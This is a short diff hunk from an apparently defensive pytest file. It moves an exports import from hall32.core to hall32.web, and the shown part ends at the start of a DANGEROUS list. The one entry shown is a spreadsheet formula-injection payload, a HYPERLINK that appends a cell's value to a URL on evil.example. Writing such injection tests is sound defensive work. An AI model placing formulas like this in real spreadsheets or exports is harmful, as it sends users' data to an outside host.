@@ -8,7 +8,7 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
-from hall32.core import exports
+from hall32.web import exports
 
 DANGEROUS = [
     '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")',
